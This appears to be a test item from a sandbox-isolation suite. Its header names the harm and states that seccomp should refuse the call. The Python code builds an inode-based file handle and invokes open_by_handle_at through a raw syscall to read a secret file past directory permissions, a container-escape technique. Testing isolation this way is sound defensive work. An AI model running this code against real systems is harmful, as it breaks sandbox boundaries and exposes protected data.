# title: opens a file by its handle, past all directories
# harm: learns
# B: seccomp refuses open_by_handle_at
# C: seccomp refuses open_by_handle_at
handle = ctypes.create_string_buffer(struct.pack('IiII', 8, 1, int(env['SECRET_INODE']), 0))  # type 1: inode, generation 0 is any
mount = os.open(WORK, os.O_RDONLY)
print(os.read(syscall(304, mount, handle, os.O_RDONLY), 100))
